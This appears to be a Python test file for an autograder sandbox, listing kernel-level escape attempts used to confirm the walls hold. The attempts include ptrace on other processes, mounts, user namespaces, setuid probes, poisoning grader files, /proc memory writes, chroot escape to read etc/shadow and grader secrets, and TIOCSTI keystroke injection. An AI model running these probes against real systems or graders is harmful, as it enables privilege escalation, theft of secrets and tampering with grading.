"""Attacks on the walls themselves: system calls that an assignment never needs, files that belong
to the course.
"""

from __future__ import annotations

from tests.hostile.attack import Attack
from tests.hostile.student_code import spying

FAMILY = "kernel"

CALLS = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, number, *arguments):
    "A system call by its x86-64 number; what it gave, -1 when it was refused."
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments])
    if result >= 0:
        won(name)
    return result
"""


def _calls(code: str):  # type: ignore[no-untyped-def]
    from textwrap import dedent

    return spying(CALLS + dedent(code))


ATTACKS = [
    Attack(
        "traces_its_neighbours",
        FAMILY,
        "a debugger's hold on parent and zygote",
        _calls("""
            for pid in {os.getppid(), 1, *range(2, os.getpid())}:
                if pid > 0 and libc.ptrace(16, ctypes.c_long(pid), 0, 0) == 0:  # PTRACE_ATTACH
                    won(f"ptrace of {pid}")
                    libc.ptrace(17, ctypes.c_long(pid), 0, 0)
                fd = libc.syscall(434, ctypes.c_long(pid), 0) if pid > 0 else -1  # pidfd_open, then pidfd_getfd
                for number in range(3, 12):
                    if fd >= 0 and libc.syscall(438, fd, number, 0) >= 0:
                        won(f"a descriptor of {pid}")
        """),
    ),
    Attack(
        "mounts",
        FAMILY,
        "another view of the disk: its own mounts over ours, the root made writable",
        _calls("""
            call("mount tmpfs", 165, b"none", b"/tmp", b"tmpfs", 0, 0)
            call("mount proc", 165, b"proc", b"/proc", b"proc", 0, 0)
            call("remount /", 165, b"none", b"/", 0, 32 | 4096, 0)
            call("umount", 166, b"/tmp", 2)
            call("fsopen", 430, b"tmpfs", 0)
            call("open_tree", 428, -100, b"/", 1)
        """),
    ),
    Attack(
        "makes_namespaces",
        FAMILY,
        "a user namespace in which it is root, and the kernel's wide surface behind it",
        _calls("""
            kinds = {"user": 0x10000000, "user and net": 0x50000000, "user and mount": 0x10020000, "pid": 0x20000000}
            for name, flags in kinds.items():
                call("unshare " + name, 272, flags)
            for fd in (os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY) for pid in ("1", "self") for kind in ("mnt", "net", "pid")
                       if os.access(f"/proc/{pid}/ns/{kind}", os.R_OK)):
                if libc.setns(fd, 0) == 0:
                    won("setns")
        """),
    ),
    Attack(
        "becomes_root",
        FAMILY,
        "another user's rights",
        _calls("""
            before = os.getresuid()
            changes = {"setuid": lambda: os.setuid(0), "setgid": lambda: os.setgid(0), "setgroups": lambda: os.setgroups([0, 27])}
            for name, change in changes.items():
                try:
                    change()
                    if os.getresuid() != before:
                        won(name)
                except OSError:
                    pass
            header, rights = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
            if libc.capget(header, rights) == 0 and any(rights):
                won("capabilities")
            for path in ("/bin/su", "/usr/bin/sudo", "/bin/mount", "/usr/bin/newuidmap"):
                if os.path.exists(path) and os.stat(path).st_mode & 0o4000 and not (os.statvfs(path).f_flag & os.ST_NOSUID):
                    if libc.prctl(39, 0, 0, 0, 0) != 1:  # PR_GET_NO_NEW_PRIVS
                        won("a setuid program: " + path)
        """),
    ),
    Attack(
        "changes_the_course",
        FAMILY,
        "the files of the course and of the grader: written, replaced, made executable, removed",
        _calls("""
            import dgm, sys
            places = [os.path.dirname(dgm.__file__), "/course/dgm", "/course/data", "/grader/autograder", "/usr/bin"]
            places += [COURSE + "/autograder", COURSE, sys.prefix]
            for place in places:
                for change in (lambda: open(place + "/" + MARK + ".py", "w").write("poison"), lambda: os.chmod(place, 0o777),
                               lambda: os.chown(place, 0, 0), lambda: os.rename(place, place + MARK), lambda: os.utime(place, (0, 0)),
                               lambda: os.symlink("/etc/passwd", place + "/" + MARK), lambda: os.setxattr(place, "user.x", b"1")):
                    try:
                        change()
                        won("a change in " + place)
                    except (OSError, PermissionError):
                        pass
        """),
        nbgrader=True,
    ),
    Attack(
        "uses_key_rings",
        FAMILY,
        "the kernel's key rings, which no namespace divides: room to leave messages in",
        _calls("""
            call("add_key", 248, b"user", (MARK + "_key").encode(), b"poison", 6, -4)
            call("keyctl join", 250, 1, MARK.encode())
            call("request_key", 249, b"user", b"secret", 0, -4)
        """),
    ),
    Attack(
        "uses_io_uring",
        FAMILY,
        "files and sockets through a ring that filters of system calls do not see",
        _calls(
            "parameters = ctypes.create_string_buffer(120)\ncall('io_uring_setup', 425, 4, ctypes.addressof(parameters))"
        ),
    ),
    Attack(
        "writes_its_own_memory",
        FAMILY,
        "read-only pages, past their protection: another program in the memory of the worker or of its parent",
        _calls("""
            for pid in ("1", str(os.getppid())):
                try:
                    with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                        won("the memory of process " + pid)
                except OSError:
                    pass
            with open("/proc/self/mem", "r+b", 0) as memory:
                memory.seek(id(0) + 16)  # the number 0 of this interpreter becomes another
                memory.write(b"\\x00")
        """),
    ),
    Attack(
        "calls_the_kernel",
        FAMILY,
        "what only an administrator may: modules, tracing, clocks, reboot",
        _calls("""
            call("bpf", 321, 5, ctypes.addressof(ctypes.create_string_buffer(128)), 128)
            call("perf_event_open", 298, ctypes.addressof(ctypes.create_string_buffer(128)), 0, -1, -1, 0)
            call("init_module", 175, b"", 0, b"")
            call("kexec_load", 246, 0, 0, 0, 0)
            call("clock_settime", 227, 0, ctypes.addressof(ctypes.create_string_buffer(16)))
            call("userfaultfd", 323, 0)
            call("swapon", 167, b"/tmp/swap", 0)
            call("acct", 163, b"/tmp/acct")
            call("quotactl", 179, 0, 0, 0, 0)
            call("open_by_handle_at", 304, -100, ctypes.addressof(ctypes.create_string_buffer(64)), 0)
            call("fanotify_init", 300, 0, 0)
        """),
    ),
    Attack(
        "changes_its_root",
        FAMILY,
        "the way out through the root: chroot, pivot_root, and up",
        _calls("""
            os.makedirs("/tmp/jail", exist_ok=True)
            call("chroot", 161, b"/tmp/jail")
            call("pivot_root", 155, b"/", b"/tmp/jail")
            os.chdir("/")
            for _ in range(100):
                os.chdir("..")
            for entry in (".autograder-secret", COURSE.lstrip("/") + "/.autograder-secret", "etc/shadow"):
                if look_in(entry):
                    won(entry)
        """),
    ),
    Attack(
        "takes_the_terminal",
        FAMILY,
        "keys typed into the terminal of whoever grades",
        _calls("""
            import fcntl, termios
            for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1"):
                try:
                    terminal = os.open(path, os.O_RDWR)
                    for character in b"id\\n":
                        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
                    won("typed into " + path)
                except OSError:
                    pass
        """),
    ),
]
